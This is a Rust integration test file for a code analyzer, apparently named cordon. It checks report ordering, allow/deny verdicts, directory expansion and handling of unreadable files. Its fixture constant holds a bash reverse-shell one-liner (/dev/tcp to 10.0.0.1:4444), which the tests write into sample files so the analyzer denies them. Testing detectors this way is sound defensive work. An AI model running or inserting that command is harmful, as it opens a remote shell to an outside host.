//! `cordon analyze` over many files and directories: the reports come out in
//! the order the inputs were given (the analysis runs on every core), each
//! with its own verdict, and a file that cannot be read fails the run without
//! hiding the others.

use std::path::Path;
use std::process::{Command, Output};

fn cordon(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("spawn cordon")
}

fn reports(o: &Output) -> Vec<serde_json::Value> {
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    });
    v.as_array().cloned().expect("an array of reports")
}

const REVERSE_SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";

/// Writes 60 files, a third of them reverse shells, named so that input order,
/// name order and size order all differ.
fn corpus(dir: &Path) -> Vec<(String, &'static str)> {
    let mut files = Vec::new();
    for i in 0..60 {
        let (name, code, verdict) = match i % 3 {
            0 => (
                format!("z{i:02}.py"),
                "print(sum(range(10)))\n".repeat(1 + i % 7),
                "allow",
            ),
            1 => (format!("a{i:02}.sh"), REVERSE_SHELL.to_string(), "deny"),
            _ => (
                format!("m{i:02}.js"),
                "console.log([1, 2].map((x) => x * 2));\n".repeat(1 + i % 5),
                "allow",
            ),
        };
        let path = dir.join(name);
        std::fs::write(&path, code).expect("write sample");
        files.push((path.to_string_lossy().into_owned(), verdict));
    }
    files
}

#[test]
fn reports_follow_the_input_order_with_each_files_verdict() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut files = corpus(dir.path());
    // An order that is neither sorted by name nor by size.
    files.reverse();
    files.rotate_left(7);
    let mut args = vec!["analyze", "--format", "json"];
    args.extend(files.iter().map(|(p, _)| p.as_str()));
    let o = cordon(&args);
    assert_eq!(o.status.code(), Some(2), "worst verdict is deny: {o:?}");
    let got = reports(&o);
    assert_eq!(got.len(), files.len());
    for ((path, verdict), r) in files.iter().zip(&got) {
        assert_eq!(r["file"], *path, "reports out of input order");
        assert_eq!(r["verdict"], *verdict, "{path}: {r}");
        if *verdict == "deny" {
            assert!(
                r["findings"].as_array().is_some_and(|f| !f.is_empty()),
                "{path}: a deny without a finding: {r}"
            );
        }
    }
    // The same run again gives the same bytes: nothing depends on which
    // thread finished first.
    let again = cordon(&args);
    assert_eq!(
        strip_durations(&o.stdout),
        strip_durations(&again.stdout),
        "two runs over the same inputs differ"
    );
}

fn strip_durations(out: &[u8]) -> String {
    String::from_utf8_lossy(out)
        .lines()
        .filter(|l| !l.contains("\"duration_us\""))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_directory_stands_for_its_source_files_in_path_order() {
    let dir = tempfile::tempdir().expect("tempdir");
    let sub = dir.path().join("sub");
    std::fs::create_dir(&sub).expect("mkdir");
    std::fs::write(sub.join("b.py"), "print(1)\n").expect("write");
    std::fs::write(sub.join("a.sh"), REVERSE_SHELL).expect("write");
    std::fs::write(dir.path().join("c.js"), "console.log(1)\n").expect("write");
    std::fs::write(dir.path().join("notes.txt"), REVERSE_SHELL).expect("write");
    let root = dir.path().to_string_lossy().into_owned();
    let o = cordon(&["analyze", "--format", "json", &root]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    let got: Vec<(String, String)> = reports(&o)
        .iter()
        .map(|r| {
            (
                r["file"].as_str().unwrap_or_default().to_string(),
                r["verdict"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    let want = vec![
        (format!("{root}/c.js"), "allow".to_string()),
        (format!("{root}/sub/a.sh"), "deny".to_string()),
        (format!("{root}/sub/b.py"), "allow".to_string()),
    ];
    assert_eq!(
        got, want,
        "the .txt file is skipped, the rest in path order"
    );

    // --language narrows a directory to that language's files.
    let o = cordon(&["analyze", "--format", "json", "-l", "python", &root]);
    assert_eq!(o.status.code(), Some(0), "{o:?}");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["file"], format!("{root}/sub/b.py"), "one report: {v}");
}

#[test]
fn an_unreadable_input_fails_the_run_but_the_others_are_reported_in_order() {
    let dir = tempfile::tempdir().expect("tempdir");
    let files = corpus(dir.path());
    let missing = dir.path().join("missing.py").to_string_lossy().into_owned();
    let mut args = vec!["analyze", "--format", "json"];
    args.extend(files.iter().take(5).map(|(p, _)| p.as_str()));
    args.push(&missing);
    args.extend(files.iter().skip(5).take(5).map(|(p, _)| p.as_str()));
    let o = cordon(&args);
    assert_eq!(
        o.status.code(),
        Some(3),
        "an unreadable file is an error: {o:?}"
    );
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("missing.py"), "names the file: {stderr}");
    let got = reports(&o);
    let want: Vec<&str> = files.iter().take(10).map(|(p, _)| p.as_str()).collect();
    let got: Vec<&str> = got.iter().filter_map(|r| r["file"].as_str()).collect();
    assert_eq!(got, want);
}
